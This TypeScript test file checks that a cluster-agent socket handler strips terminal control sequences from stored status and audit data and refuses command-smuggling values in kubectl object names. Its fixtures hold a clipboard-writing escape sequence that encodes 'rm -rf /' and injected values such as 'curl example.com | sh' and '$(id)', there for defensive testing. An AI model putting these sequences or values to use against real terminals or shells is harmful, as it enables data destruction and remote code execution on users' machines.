/** What a hostile cluster might say of its dev pods, over the socket function and DynamoDB Local: people's terminals and shells are shown none of it. */
import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toWorkspace, toWorkspaceChanged } from '#core/domain/workspace-view.ts';
import type { AgentDeps } from '#functions/socket/messages/answer.ts';
import { message } from '#functions/socket/messages/message.ts';
import { connectedCluster, seatsIn } from '#test/builders/seat-world.ts';
import { seatStatus } from '#test/builders/seats.ts';
import { createAgentWorld, type World } from '#test/builders/world.ts';
import { startTable, type TestTable } from './table.ts';

/** Clears the screen, writes the clipboard, turns the line around, hides what came before. */
const TERMINAL = '\u001b[2J\u001b]52;c;cm0gLXJmIC8=\u0007\u202egnp.exe\u200b\rfine\u009b31m';
const SHOWN = '[2J]52;c;cm0gLXJmIC8=gnp.exefine31m';

let table: TestTable;
let world: World & AgentDeps;
let ada: { id: string; team: string };
let port: Awaited<ReturnType<typeof connectedCluster>>;
let seat: string;

beforeAll(async () => {
  table = await startTable();
  world = createAgentWorld(table);
  ada = await world.account();
  port = await connectedCluster(world, ada);
  seat = (await seatsIn(world).seat(ada, port.cluster.id)).next.id;
});
afterAll(() => table.stop());

let seq = 0;
// biome-ignore lint/suspicious/noExplicitAny: an answer on the wire, whose form the test asserts
const say = async (type: string, payload: unknown): Promise<any> =>
  message(world)(port.connection, JSON.stringify({ v: 1, type, id: 'q', seq: ++seq, payload }));
const stateOf = async () => (await world.store.workspaces.workspace(seat))!;

describe('terminal control characters', () => {
  it('in a condition’s message are kept nowhere: neither in the table, nor in the answer, nor in the push', async () => {
    const ready = { type: 'Ready', status: 'False', reason: 'CrashLoop', message: TERMINAL };
    const status = seatStatus({ phase: 'Starting', conditions: [ready as never] });
    expect((await say('workspace.status', { id: seat, status })).type).toBe('ack');
    const state = await stateOf();
    const shown = [
      state,
      toWorkspace(state, { cluster: port.cluster, lease: null }, world.now()),
      toWorkspaceChanged(state),
    ];
    for (const { conditions } of shown) expect(conditions.find(({ type }) => type === 'Ready')?.message).toBe(SHOWN);
  });

  it.each([
    ['reason', { conditions: [{ type: 'Ready', status: 'False', reason: TERMINAL.slice(0, 4), message: '' }] }],
    ['type', { conditions: [{ type: 'Rea\u202edy', status: 'False', reason: 'No', message: '' }] }],
    ['node', { node: 'node\u001b[2J' }],
    ['zone', { zone: 'a\rb' }],
    ['uid', { uid: 'uid\n1' }],
  ])('in the %s have the report refused', async (_, change) => {
    const before = await stateOf();
    const answer = await say('workspace.status', { id: seat, status: { ...seatStatus(), ...change } });
    expect([answer.type, answer.payload.code]).toEqual(['error', 'Invalid']);
    expect(await stateOf()).toEqual(before);
  });

  it('in what is said for the audit log are dropped', async () => {
    await say('audit', { action: 'Overridden', resource: `workspace/${TERMINAL}`, detail: TERMINAL });
    const { Items = [] } = await DynamoDBDocumentClient.from(table.client).send(
      new ScanCommand({ TableName: table.name }),
    );
    expect(Items).toContainEqual(
      expect.objectContaining({
        action: 'agent.Overridden',
        detail: { resource: `workspace/${SHOWN}`, detail: SHOWN },
      }),
    );
  });
});

describe('what remains in a cluster that is left', () => {
  it.each([
    'namespace/x; curl example.com | sh',
    'namespace/$(id)',
    'namespace/--all',
    '-f/x',
    'all',
    'ns/a b',
    'ns/`id`',
  ])('is shown as a kubectl line, which nobody’s shell is given %j in', async (object) => {
    const answer = await say('cluster.left', { objects: [object] });
    expect([answer.type, answer.payload.code]).toEqual(['error', 'Invalid']);
    expect((await world.store.clusters.cluster(port.cluster.id))?.remains).toBeUndefined();
  });

  it('is taken where it names objects', async () => {
    const objects = ['namespace/rs-team-1', 'clusterrole/roadstead:agent', 'crd/workspaces.roadstead.dev'];
    expect((await say('cluster.left', { objects })).type).toBe('ack');
  });
});
